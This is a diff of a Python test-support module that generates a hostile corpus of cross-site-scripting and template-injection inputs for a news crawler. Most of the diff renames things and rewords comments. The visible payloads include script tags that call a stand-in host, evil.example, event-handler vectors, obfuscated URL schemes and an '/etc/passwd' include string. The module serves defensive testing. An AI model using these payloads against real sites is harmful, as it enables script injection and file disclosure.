@@ -1,7 +1,7 @@
-"""The hostile corpus: what a stranger may put into bodies, titles, digests and names, to be let in at the front door.
+"""The hostile corpus: what an attacker may put into bodies, titles, digests and names, to be crawled like real pages.
 
-Made of vectors × contexts × spellings; `python -m tests.support.hostile` lists it, a case a line. Whatever runs leaves
-its mark in the window on top, and asks for something at evil.example; what a post may show is at pictures.example.
+Made of vectors × contexts × spellings; `python -m tests.support.hostile` lists it, a case a line. A script that runs
+sets a variable in the top window and requests something of evil.example; allowed pictures are at pictures.example.
 """
 
 from dataclasses import replace
@@ -13,7 +13,7 @@ from finews_spider.newsroom.world import Story, World
 EVIL, PICTURES = "evil.example", "pictures.example"
 RUN = f"top.ran=1;new(Image).src=`//{EVIL}/ran`"
 PICTURE = f"https://{PICTURES}/1.jpg"
-BENIGN_EVERY = 16  # stories are as they were
+BENIGN_INTERVAL = 16  # every 16th story is as the newsroom has it
 
 VECTORS = (
     f"<script>{RUN}</script>",
@@ -50,7 +50,7 @@ VECTORS = (
     "{% include_relative /etc/passwd %}{{ site.source }}{% raw %}",
     "\n---\nlayout: null\n---\n{::nomarkdown}<script>top.ran=1</script>{:/}\n{: onclick='top.ran=1'}\n",
 )
-# Where a parser is of another mind than the next one, or leaves the text for what stands around it.
+# Contexts that parsers read differently, or in which a vector breaks out of what is around it.
 CONTEXTS = (
     "{}",
     "<p>{}</p>",
@@ -186,7 +186,7 @@ NAMES = """
 
 
 def bodies() -> list[str]:
-    """HTML."""
+    """Return hostile bodies, in HTML."""
     elements = zip(cycle(EVENTS), product(ELEMENTS, BINDINGS))
     events = (f"<{tag} {binding.replace('{run}', RUN).format(event)}>文" for event, (tag, binding) in elements)
     return [
@@ -200,30 +200,30 @@ def bodies() -> list[str]:
 
 
 def links() -> list[str]:
-    """Addresses that lead nowhere good, up to the colon, in every spelling."""
-    return [_spelt(scheme, spelling) for scheme, spelling in product(SCHEMES, SPELLINGS)]
+    """Return the starts of dangerous URLs, up to the colon, in every spelling."""
+    return [_spell(scheme, spelling) for scheme, spelling in product(SCHEMES, SPELLINGS)]
 
 
 def lines() -> list[str]:
-    """Titles and digests."""
+    """Return hostile titles and digests."""
     tags = (line.format(opener) for line, opener in product(LINES, OPENERS))
     return [*tags, *_pieces(), "题" * 5_000, "x" * 5_000, ZALGO, "<" * 3_000, "*" * 3_000]
 
 
 def names() -> list[str]:
-    """Media names."""
+    """Return hostile media names."""
     return [name.replace("{}", "某") for name in NAMES.split("|")]
 
 
 class HostileWorld(World):
-    """The newsroom's stories, told by somebody who means harm; but for one of sixteen."""
+    """The newsroom's stories with hostile contents, but for every 16th."""
 
     def __init__(self, articles: int) -> None:
         super().__init__(articles)
         self._bodies, self._lines, self._names = bodies(), lines(), names()
 
     def is_benign(self, index: int) -> bool:
-        return index % BENIGN_EVERY == 0
+        return index % BENIGN_INTERVAL == 0
 
     def title(self, index: int) -> str:
         return super().title(index) if self.is_benign(index) else self._lines[index % len(self._lines)]
@@ -232,23 +232,23 @@ class HostileWorld(World):
         story = super()._make(index)
         if self.is_benign(index):
             return story
-        body = self._bodies[(index - index // BENIGN_EVERY - 1) % len(self._bodies)]
+        body = self._bodies[(index - index // BENIGN_INTERVAL - 1) % len(self._bodies)]
         whole = f"<p>{index}</p>{body}"
         name = self._names[index // 7 % len(self._names)] if index % 7 == 0 else story.media_name
         return replace(
             story,
             title=self.title(index),
             media_name=name,
-            digest=self._lines[(index // 4 - index // BENIGN_EVERY) % len(self._lines)],  # every fourth is a flash
+            digest=self._lines[(index // 4 - index // BENIGN_INTERVAL) % len(self._lines)],  # every fourth is a flash
             blocks=(Block("hostile", whole, whole, whole),),
         )
 
 
 def _pieces() -> list[str]:
-    return [piece for piece in (each.lstrip(" ") for each in MARKUP.split("|")) if piece]
+    return [stripped for piece in MARKUP.split("|") if (stripped := piece.lstrip(" "))]
 
 
-def _spelt(scheme: str, spelling: str) -> str:
+def _spell(scheme: str, spelling: str) -> str:
     half = len(scheme) // 2
     parts = {"head": scheme[:half], "tail": scheme[half:], "rest": scheme[1:], "upper": scheme.upper()}
     return spelling.format(scheme, first=ord(scheme[0]), first_hex=f"{ord(scheme[0]):x}", **parts)
